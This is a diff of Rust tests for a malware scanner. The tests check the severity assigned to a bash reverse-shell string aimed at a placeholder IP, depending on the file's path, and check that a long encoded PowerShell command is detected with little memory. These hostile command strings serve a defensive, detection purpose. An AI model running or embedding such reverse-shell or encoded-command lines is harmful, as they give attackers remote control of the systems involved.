@@ -158,3 +158,35 @@ fn bundled_rules_compile_together_and_keep_their_names_in_order() {
     assert_eq!(scanner.rules().count(), all.len());
     assert!(bundled::all().is_sorted_by_key(|bundled| bundled.name));
 }
+
+#[test]
+fn a_match_in_code_counts_less_than_one_in_a_script() {
+    let text = "x = 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'\n";
+    for (path, severity) in [
+        ("demo/run.sh", Severity::High),
+        ("demo/cases.json", Severity::High),
+        ("demo/shell.py", Severity::Medium),
+        ("demo/tests/shell.py", Severity::Low),
+        ("demo/tests/cases.json", Severity::Low),
+        ("demo/shell.md", Severity::Info),
+    ] {
+        let package = PackageBuilder::new("generic", "demo")
+            .file(path, text)
+            .build();
+        let analysis = Rules::analyze(&package).unwrap();
+        assert_eq!(analysis.findings()[0].severity, severity, "{path}");
+    }
+}
+
+#[test]
+fn many_long_matches_need_little_memory() {
+    let line = format!("powershell -nop -enc SQBFAFgA{}\n", "IAAo".repeat(700));
+    let package = PackageBuilder::new("generic", "demo")
+        .file("demo/run.ps1", line.repeat(2_000))
+        .build();
+    let analysis = Rules::analyze(&package).unwrap();
+    assert_eq!(
+        analysis.findings()[0].rule,
+        "yara-powershell-encoded-command"
+    );
+}
